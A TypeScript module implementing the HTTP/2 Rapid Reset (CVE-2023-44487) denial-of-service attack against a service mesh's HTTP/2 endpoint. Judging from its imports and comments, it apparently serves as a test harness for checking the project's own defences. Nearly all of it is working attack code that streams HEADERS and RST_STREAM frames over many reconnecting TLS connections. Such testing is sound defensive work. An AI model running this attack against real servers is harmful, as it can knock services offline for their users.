// HTTP/2 rapid reset (CVE-2023-44487), as the 2023 attacks did it: open a stream and reset it at
// once, over and over, so no stream is ever concurrent and SETTINGS_MAX_CONCURRENT_STREAMS never
// bites. The attacker here is an authenticated mesh peer: it holds a workload certificate from
// the mesh CA, so it passes mutual TLS and reaches the HTTP/2 layer of any :15008.
// When the server sends GOAWAY (or closes), the attacker reconnects and carries on.
import * as tls from 'node:tls';
import type { TlsMaterial } from '../../src/identity/workload-cert';
import {
  ErrorCode,
  FrameReader,
  FrameType,
  Flag,
  PREFACE,
  SETTINGS_ACK,
  connectBlock,
  errorName,
  goawayCode,
  headersFrame,
  rstStreamFrame,
  settingsFrame,
} from './h2-wire';

/** HEADERS+RST_STREAM pairs per socket write: big enough to arrive in one read at the server. */
export const DEFAULT_PAIRS_PER_WRITE = 100;
const MAX_STREAM_ID = 2 ** 31 - 1;
const FAILURE_PAUSE_MS = 20;

export interface RapidResetOptions {
  readonly host: string;
  readonly port: number;
  readonly tls: TlsMaterial;
  /** The CONNECT authority each stream asks for (a pod ip:port, or a VIP:port at a waypoint). */
  readonly authority: string;
  /** Attacker connections kept up at once; each reconnects when the server drops it. */
  readonly connections: number;
  readonly durationMs: number;
  readonly pairsPerWrite?: number;
  /** Stop after this many TLS connections in total (tests: one connection, watch its end). */
  readonly maxConnections?: number;
}

export interface RapidResetResult {
  /**
   * Resets the victim took in: up to the last stream its GOAWAY says it processed, or every one
   * written when it closed without a GOAWAY. What an attacker wrote past a GOAWAY is not counted.
   */
  readonly resets: number;
  /** RST_STREAMs written, counted or not. */
  readonly resetsWritten: number;
  /** TLS connections the attacker opened (reconnects included). */
  readonly connections: number;
  /** Connections that ended with a GOAWAY from the victim, by error code name. */
  readonly goaways: Readonly<Record<string, number>>;
  /** Responses (HEADERS) the victim sent back before the reset reached it. */
  readonly responses: number;
  /** Connections refused before HTTP/2 (TLS errors), by message. */
  readonly failures: number;
  readonly seconds: number;
}

interface Tally {
  resets: number;
  resetsWritten: number;
  connections: number;
  goaways: Record<string, number>;
  responses: number;
  failures: number;
}

/** The bytes of `pairs` HEADERS+RST pairs, stream ids patched in place from `firstStream`. */
class PairBatch {
  private readonly headers: Buffer;
  private readonly rst: Buffer;
  private readonly pairBytes: number;
  private readonly buf: Buffer;

  constructor(
    authority: string,
    private readonly pairs: number,
  ) {
    this.headers = headersFrame(1, connectBlock(authority), Flag.END_HEADERS);
    this.rst = rstStreamFrame(1, ErrorCode.CANCEL);
    this.pairBytes = this.headers.length + this.rst.length;
    this.buf = Buffer.allocUnsafe(this.pairBytes * pairs);
    for (let i = 0; i < pairs; i++) {
      this.headers.copy(this.buf, i * this.pairBytes);
      this.rst.copy(this.buf, i * this.pairBytes + this.headers.length);
    }
  }

  /** A fresh buffer (the socket may still hold the previous one) for streams firstStream, +2, ... */
  next(firstStream: number): Buffer {
    const out = Buffer.from(this.buf);
    for (let i = 0; i < this.pairs; i++) {
      const id = firstStream + 2 * i;
      out.writeUInt32BE(id, i * this.pairBytes + 5);
      out.writeUInt32BE(id, i * this.pairBytes + this.headers.length + 5);
    }
    return out;
  }
}

function connectTls(o: RapidResetOptions): Promise<tls.TLSSocket> {
  return new Promise((resolve, reject) => {
    const s = tls.connect({
      host: o.host,
      port: o.port,
      cert: o.tls.cert,
      key: o.tls.key,
      ca: o.tls.ca,
      ALPNProtocols: ['h2'],
      minVersion: 'TLSv1.3',
      // The attacker does not care who the server is.
      checkServerIdentity: () => undefined,
      // A write after the victim's FIN must not destroy the socket before its GOAWAY is read.
      allowHalfOpen: true,
    } as tls.ConnectionOptions);
    s.once('secureConnect', () => {
      s.off('error', reject);
      resolve(s);
    });
    s.once('error', reject);
  });
}

/** Resolves when the socket can take more, or has closed (never rejects: errors end the loop). */
function drained(socket: tls.TLSSocket): Promise<void> {
  return new Promise((resolve) => {
    const done = (): void => {
      socket.off('drain', done);
      socket.off('close', done);
      resolve();
    };
    socket.on('drain', done);
    socket.on('close', done);
  });
}

/** One attacker connection, from handshake to the victim's GOAWAY or close. */
async function attackOnce(o: RapidResetOptions, batch: PairBatch, pairs: number, deadline: number, tally: Tally): Promise<void> {
  let socket: tls.TLSSocket;
  try {
    socket = await connectTls(o);
  } catch {
    tally.failures++;
    // Refused before HTTP/2: pause, or a dead victim turns this loop into a busy wait.
    await new Promise((r) => setTimeout(r, FAILURE_PAUSE_MS));
    return;
  }
  tally.connections++;
  socket.setNoDelay(true);
  let ended = false;
  let processed: number | undefined;
  let endNow: () => void = () => undefined;
  // A victim that sent GOAWAY may stop reading without closing: waiting for 'drain' would hang.
  const goaway = new Promise<void>((resolve) => (endNow = resolve));
  const reader = new FrameReader();
  socket.on('data', (chunk: Buffer) => {
    for (const f of reader.push(chunk)) {
      if (f.type === FrameType.SETTINGS && !(f.flags & Flag.ACK)) socket.write(SETTINGS_ACK);
      else if (f.type === FrameType.HEADERS) tally.responses++;
      else if (f.type === FrameType.GOAWAY && !ended) {
        ended = true;
        endNow();
        const name = errorName(goawayCode(f.payload));
        tally.goaways[name] = (tally.goaways[name] ?? 0) + 1;
        processed = Math.ceil((f.payload.readUInt32BE(0) & 0x7fffffff) / 2);
      }
    }
  });
  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  socket.on('error', () => undefined);
  socket.once('end', () => {
    ended = true;
    endNow();
  });
  socket.write(Buffer.concat([PREFACE, settingsFrame()]));
  let stream = 1;
  let written = 0;
  while (!ended && !socket.destroyed && Date.now() < deadline && stream + 2 * pairs < MAX_STREAM_ID) {
    const more = socket.write(batch.next(stream));
    stream += 2 * pairs;
    written += pairs;
    // Yield every batch, so the victim's GOAWAY is read as soon as it arrives.
    await Promise.race([more ? new Promise((r) => setImmediate(r)) : drained(socket), goaway]);
  }
  socket.destroy();
  await closed;
  tally.resetsWritten += written;
  tally.resets += processed ?? written;
}

export async function rapidReset(o: RapidResetOptions): Promise<RapidResetResult> {
  const pairs = o.pairsPerWrite ?? DEFAULT_PAIRS_PER_WRITE;
  const batch = new PairBatch(o.authority, pairs);
  const tally: Tally = { resets: 0, resetsWritten: 0, connections: 0, goaways: {}, responses: 0, failures: 0 };
  const started = Date.now();
  const deadline = started + o.durationMs;
  let opened = 0;
  const worker = async (): Promise<void> => {
    while (Date.now() < deadline && (o.maxConnections === undefined || opened < o.maxConnections)) {
      opened++;
      await attackOnce(o, batch, pairs, deadline, tally);
    }
  };
  await Promise.all(Array.from({ length: o.connections }, worker));
  return { ...tally, seconds: (Date.now() - started) / 1000 };
}
